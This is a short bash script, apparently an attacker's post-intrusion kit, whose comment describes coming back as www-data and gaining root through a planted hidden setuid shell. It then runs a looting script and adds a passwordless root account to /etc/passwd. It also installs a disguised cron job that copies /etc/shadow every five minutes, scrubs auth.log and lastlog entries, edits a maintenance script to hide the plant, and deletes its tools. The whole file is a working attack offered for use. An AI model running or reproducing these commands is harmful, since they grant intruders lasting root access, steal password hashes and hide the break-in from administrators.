#!/bin/bash
# SPDX-License-Identifier: MIT
# The intruder comes back as www-data, and becomes root through the planted program.
set -eu
exec /usr/lib/.locale -p <<'END'
tools=/var/tmp/.fonts
bash -p $tools/grab.sh $tools/loot.txt
echo 'sysd::0:0:system daemon:/root:/bin/bash' >>/etc/passwd
echo '*/5 * * * * root /usr/lib/.locale -p -c "cat /etc/shadow >/var/tmp/.s"' >/etc/cron.d/logcheck
sed -i '/publickey for bob/d' /var/log/auth.log
: >/var/log/lastlog
sed -i '/locale/d' /opt/maintenance/nightly.sh
rm -rf $tools
END
